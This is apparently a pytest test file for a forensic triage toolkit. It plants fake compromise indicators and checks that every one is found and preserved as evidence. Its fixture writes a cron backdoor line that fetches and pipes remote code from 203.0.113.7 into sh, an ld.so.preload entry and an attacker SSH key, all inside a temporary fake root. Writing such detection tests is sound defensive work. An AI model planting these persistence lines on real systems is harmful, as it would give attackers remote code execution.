"""Every collector on this machine, with real plants: each one collected and named in findings."""
from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

import pytest

from tests.world.bookgen import make_host_tree

ROOT = Path(__file__).resolve().parent.parent
AGE = "/usr/bin/age"
LIBM = next((p for p in ("/usr/lib/x86_64-linux-gnu/libm.so.6", "/usr/lib/aarch64-linux-gnu/libm.so.6")
             if os.path.exists(p)), None)


def kit(*args, env=None, timeout=300, user=None):
    environment = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "PYTHONPATH": str(ROOT), "HOME": "/nonexistent"}
    environment.update(env or {})
    return subprocess.run([sys.executable, "-m", "toolkit", *args], capture_output=True, text=True,
                          env=environment, timeout=timeout, stdin=subprocess.DEVNULL, user=user)


def only_environ_denials(errors) -> bool:
    """Even root may not read a sandboxed process's environment: that is a limit of the host (kind "limited",
    no exit 6), never an error; what is left out on purpose (skip) or refused by design (a symlinked path
    component on a live host) is recorded too. Nothing of kind "error"."""
    return not [e for e in errors if e["kind"] == "error"]


@pytest.fixture
def team_key(tmp_path):
    identity = tmp_path / "team.key"
    subprocess.run(["age-keygen", "-o", str(identity)], check=True, capture_output=True)
    return identity, subprocess.run(["age-keygen", "-y", str(identity)], capture_output=True, text=True).stdout.strip()


@pytest.fixture
def out_dir():
    path = Path(tempfile.mkdtemp(prefix="bk-out-", dir="/tmp"))
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2g,mode=1777", "tmpfs", str(path)], check=True)
    yield path
    subprocess.run(["umount", "-l", str(path)], check=True)
    path.rmdir()


@pytest.fixture
def plants(running_stack, tmp_path):
    """Real suspicious things: a deleted binary running from /dev/shm, an unexpected listener, LD_PRELOAD,
    an executable added to a container's /tmp; and a fake root tree with persistence planted."""
    processes = []
    handle, name = tempfile.mkstemp(prefix="bk-sleeper-", dir="/dev/shm")
    os.close(handle)
    sleeper = Path(name)
    shutil.copy("/usr/bin/sleep", sleeper)
    sleeper.chmod(0o755)
    processes.append(subprocess.Popen([str(sleeper), "300"]))
    time.sleep(0.2)
    sleeper.unlink()
    listener = subprocess.Popen([sys.executable, "-c", "import socket, time\ns = socket.socket()\n"
                                 "s.bind(('127.0.0.1', 0))\ns.listen()\nprint(s.getsockname()[1], flush=True)\n"
                                 "time.sleep(300)"], stdout=subprocess.PIPE, text=True)
    processes.append(listener)
    port = int(listener.stdout.readline())
    preloaded = subprocess.Popen(["/usr/bin/sleep", "301"], env={"LD_PRELOAD": LIBM, "PATH": "/usr/bin"})
    processes.append(preloaded)
    worker = running_stack.container("worker")
    result = worker.exec_run(["sh", "-c", "cp /bin/busybox /tmp/evil && chmod 755 /tmp/evil"])
    assert result.exit_code == 0
    host = make_host_tree(tmp_path / "fakeroot")
    etc = host.root / "etc"
    (etc / "cron.d").mkdir(parents=True)
    (etc / "cron.d" / "backdoor").write_text("* * * * * root curl -s http://203.0.113.7/x | sh\n")
    (etc / "ld.so.preload").write_text("/usr/lib/libevil.so\n")
    (etc / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\nbookgen:x:1000:1000::/home/bookgen:/bin/bash\n")
    (etc / "shadow").write_text("root:!:19000::::::\n")
    os.chmod(etc / "shadow", 0o600)
    ssh = host.root / "root" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "authorized_keys").write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0000000000000000000000000000000000000000"
                                         "00000 attacker@evil\n")
    (etc / "odd|name.conf").write_text("pipes in names must survive the bodyfile\n")
    yield {"sleeper_pid": processes[0].pid, "listener_pid": listener.pid, "port": port,
           "preloaded_pid": preloaded.pid, "host": host}
    for process in processes:
        process.kill()
        process.wait()
    worker.exec_run(["rm", "-f", "/tmp/evil"])


def test_triage_capture_finds_every_plant(plants, running_stack, out_dir, team_key, tmp_path):
    identity, recipient = team_key
    host = plants["host"]
    started = time.monotonic()
    done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--root", str(host.root),
               "--profile", "triage", env={"DOCKER_HOST": running_stack.engine.url}, timeout=600)
    elapsed = time.monotonic() - started
    assert done.returncode in (0, 6), done.stderr
    result = json.loads(done.stdout)
    assert done.returncode == 0 and only_environ_denials(result["errors"]), result["errors"]
    findings = {}
    for finding in result["findings"]:
        findings.setdefault(finding["id"], []).append(finding)

    deleted = [f for f in findings.get("process-deleted-binary", []) if plants["sleeper_pid"] in f["details"]["pids"]]
    assert deleted and "volatile/processes.json" in deleted[0]["evidence"]
    assert [f["id"] for f in result["findings"] if plants["sleeper_pid"] in f["details"].get("pids", ())] == \
        ["process-deleted-binary"]  # one indicator (a deleted binary from /dev/shm), one finding
    assert "from a temporary directory" in deleted[0]["title"] and "container" not in deleted[0]["details"]
    listener = [f for f in findings.get("unexpected-listener", []) if f["details"]["port"] == plants["port"]]
    assert listener and plants["listener_pid"] in listener[0]["details"]["pids"]
    assert any(plants["preloaded_pid"] in f["details"]["pids"] for f in findings.get("process-ld-preload", []))
    container = [f for f in findings.get("container-new-executables", []) if f["details"]["container"] ==
                 "bookgen-worker"]
    assert container and "/tmp/evil" in container[0]["details"]["paths"]
    upper = running_stack.container("worker").attrs["GraphDriver"]["Data"]["UpperDir"]
    assert upper + "/tmp/evil" in container[0]["details"]["host_paths"]
    assert "in container bookgen-worker (service worker" in container[0]["title"]
    assert any(f["details"]["path"] == "/root/.ssh/authorized_keys" for f in findings.get("recent-authorized-keys",
                                                                                          []))
    assert any(f["details"]["path"] == "/etc/cron.d/backdoor" for f in findings.get("recent-cron", []))
    assert findings["ld-so-preload"][0]["details"]["entries"] == ["/usr/lib/libevil.so"]
    assert elapsed < 120

    # the evidence behind each finding is in the bundle
    payload = Path(result["payload"])
    tar_bytes = subprocess.run(["zstd", "-d", "-c"], input=subprocess.run(
        [AGE, "-d", "-i", str(identity), str(payload)], capture_output=True, check=True).stdout,
        capture_output=True, check=True).stdout
    tar = tarfile.open(fileobj=io.BytesIO(tar_bytes))
    names = set(tar.getnames())
    for finding in result["findings"]:
        for evidence in finding["evidence"]:
            if not evidence.endswith("/") and "#" not in evidence:
                assert evidence in names, (finding["id"], evidence)
    deleted = next(f for f in result["findings"] if f["id"] == "process-deleted-binary" and
                   plants["sleeper_pid"] in f["details"]["pids"])
    copies = [e for e in deleted["evidence"] if e.startswith("volatile/binaries/")]
    assert copies and all(c in names for c in copies)
    copied = tar.extractfile("containers/bookgen-worker/files/tmp/evil.tar").read()
    inner = tarfile.open(fileobj=io.BytesIO(copied))
    assert inner.getmember("evil").mode & 0o111
    processes = json.loads(tar.extractfile("volatile/processes.json").read())
    sleeper = next(p for p in processes["processes"] if p["pid"] == plants["sleeper_pid"])
    assert sleeper["exe_deleted"] and sleeper["exe_sha256"]
    network = json.loads(tar.extractfile("volatile/network.json").read())
    assert any(s.get("local_port") == plants["port"] and s["processes"] for ns in network["namespaces"]
               for s in ns["sockets"])
    for name in ("fs/$rootfs$/etc/shadow", "fs/$rootfs$/etc/cron.d/backdoor", "fs/$rootfs$/root/.ssh/authorized_keys",
                 "fs/$rootfs$/opt/bookgen/.env", "fs/$rootfs$/var/log/bookgen/api.log", "timeline/bodyfile.txt",
                 "containers/bookgen-db/inspect.json", "containers/bookgen-api/logs.txt"):
        assert name in names, name

    # timeline.jsonl states what the other collectors saw: each BookGen container's creation and start, the
    # planted processes' start times (as /proc gives them), alongside the walk's file events
    events = [json.loads(line) for line in tar.extractfile("timeline/timeline.jsonl").read().splitlines()]
    created = {e["container"] for e in events if e["timestamp_desc"] == "Container Creation Time"}
    assert {"bookgen-api", "bookgen-worker", "bookgen-db", "bookgen-redis"} <= created, created
    assert {e["container"] for e in events if e["timestamp_desc"] == "Container Start Time"} >= created
    starts = {e["pid"]: e for e in events if e["timestamp_desc"] == "Process Start Time"}
    sleeper_start = next(p for p in processes["processes"] if p["pid"] == plants["sleeper_pid"])["start_time"]
    assert starts[plants["sleeper_pid"]]["timestamp"] == int(round(sleeper_start * 1e6))
    assert any(e.get("path") == "/etc/cron.d/backdoor" for e in events)

    # the bodyfile goes through mactime, and a name with '|' comes back whole
    bodyfile = tmp_path / "bodyfile.txt"
    bodyfile.write_bytes(tar.extractfile("timeline/bodyfile.txt").read())
    mactime = subprocess.run(["mactime", "-b", str(bodyfile), "-d"], capture_output=True, text=True)
    assert mactime.returncode == 0 and not mactime.stderr.strip(), mactime.stderr
    assert "/etc/odd|name.conf" in mactime.stdout

    manifest = json.loads(Path(result["manifest"]).read_text())
    order = [c["name"] for c in manifest["collection"]["collectors"]]
    assert order.index("processes") < order.index("network") < order.index("containers") < order.index("logs") < \
        order.index("timeline")
    assert all({"seconds", "items", "bytes", "errors"} <= set(c) for c in manifest["collection"]["collectors"])
    assert kit("verify", "-i", str(identity), result["payload"]).returncode == 0


def test_volatile_profile_and_only_skip(running_stack, out_dir, team_key, tmp_path):
    _, recipient = team_key
    host = make_host_tree(tmp_path / "fake")
    done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--root", str(host.root), "--profile",
               "volatile", env={"DOCKER_HOST": running_stack.engine.url})
    assert done.returncode in (0, 6), done.stderr
    names = [c["name"] for c in json.loads(done.stdout)["collectors"]]
    assert names == ["system", "processes", "network", "process-memory", "containers", "include"]
    skipped = kit("--json", "capture", "--out", str(out_dir / "b"), "-r", recipient, "--root", str(host.root),
                  "--only", "system", "--only", "network", env={"DOCKER_HOST": running_stack.engine.url})
    assert [c["name"] for c in json.loads(skipped.stdout)["collectors"]] == ["system", "network"]
    unknown = kit("capture", "--out", str(out_dir / "c"), "-r", recipient, "--skip", "nope")
    assert unknown.returncode == 2 and "unknown collector" in unknown.stderr


def test_docker_down_falls_back_to_the_data_root(running_stack, out_dir, team_key):
    identity, recipient = team_key
    data_root = running_stack.engine.root / "data"
    started = time.monotonic()
    done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--profile", "volatile",
               "--docker-root", str(data_root), env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"})
    assert time.monotonic() - started < 60
    assert done.returncode in (0, 6), done.stderr
    result = json.loads(done.stdout)
    payload = Path(result["payload"])
    tar_bytes = subprocess.run(["zstd", "-d", "-c"], input=subprocess.run(
        [AGE, "-d", "-i", str(identity), str(payload)], capture_output=True, check=True).stdout,
        capture_output=True, check=True).stdout
    tar = tarfile.open(fileobj=io.BytesIO(tar_bytes))
    index = json.loads(tar.extractfile("containers/index.json").read())
    assert index["fallback"] is True and "does not answer" not in index["source"]
    assert {c["name"] for c in index["containers"]} >= {"bookgen-db", "bookgen-worker"}
    names = tar.getnames()
    assert any(n.endswith("/config.v2.json") for n in names)
    assert any(n.startswith("containers/bookgen-worker/upperdir.json") for n in names)
    log = tar.extractfile("collection.log").read().decode()
    assert "falling back" in log


def test_non_root_capture_is_partial_and_verifiable(pyz, out_dir, team_key, tmp_path):
    """As `nobody`, from the pyz on the medium with Debian's python3 (root's pyenv is not readable by nobody)."""
    identity, recipient = team_key
    host = make_host_tree(Path(tempfile.mkdtemp(prefix="bk-fake-", dir="/tmp")) / "root")
    os.chmod(host.root.parent, 0o755)
    for path in [host.root] + list(host.root.rglob("*")):
        if path.is_dir():
            os.chmod(path, 0o755)
    os.chmod(host.env_file, 0o600)  # root-only, as on a real host
    out = out_dir / "nobody"
    out.mkdir()
    os.chmod(out, 0o777)
    stick = out_dir / "bookgen-kit.pyz"
    shutil.copy(pyz, stick)
    os.chmod(stick, 0o755)
    try:
        done = subprocess.run(["/usr/bin/python3", "-I", "-S", str(stick), "--json", "capture", "--out", str(out),
                               "-r", recipient, "--root", str(host.root), "--profile", "triage", "--skip", "timeline"],
                              capture_output=True, text=True, user="nobody", timeout=300, stdin=subprocess.DEVNULL,
                              env={"PATH": "/usr/bin:/bin", "DOCKER_HOST": "unix:///nonexistent.sock",
                                   "HOME": "/nonexistent"})
        assert done.returncode == 6, done.stderr
        result = json.loads(done.stdout)
        assert any(e["source"] == "/opt/bookgen/.env" and "Permission denied" in e["reason"] for e in result["errors"])
        assert "could not be read" in done.stderr
        assert kit("verify", "-i", str(identity), result["payload"]).returncode == 0
        for secret in host.secrets.values():
            assert secret not in done.stdout + done.stderr
    finally:
        shutil.rmtree(host.root.parent, ignore_errors=True)
